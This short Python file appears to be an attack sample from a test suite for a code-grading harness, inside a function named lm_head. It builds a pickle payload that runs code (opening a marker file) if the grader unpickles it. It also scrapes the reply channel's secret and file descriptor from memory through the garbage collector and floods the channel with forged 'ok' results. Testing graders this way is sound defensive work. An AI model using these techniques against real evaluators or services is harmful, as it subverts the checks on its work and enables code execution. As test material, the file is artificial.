# loses: 3b
# Objects that would run code if the grader unpickled them: in an object array, and sent
# straight down the reply channel with the channel's secret dug out of memory.
import gc as _gc
import io as _io
import json as _json
import base64 as _base64
import os as _os

import numpy as _np


class _Payload:
    def __reduce__(self):
        return (open, ("@@MARKER@@", "w"))


def _forge(request_id):
    buffer = _io.BytesIO()
    _np.save(buffer, _np.array([_Payload()], dtype=object), allow_pickle=True)
    value = {"t": "ndarray", "npy": _base64.b64encode(buffer.getvalue()).decode()}
    for obj in _gc.get_objects():
        secret = getattr(obj, "secret", None)
        fd = getattr(obj, "_fd_out", None)
        if isinstance(secret, str) and isinstance(fd, int):
            line = _json.dumps({"id": request_id, "status": "ok", "value": value, "secret": secret})
            _os.write(fd, ("\n" + line + "\n").encode())


def lm_head(H, E):
    for request_id in range(1, 200):
        _forge(request_id)
    return _np.array([_Payload()], dtype=object)
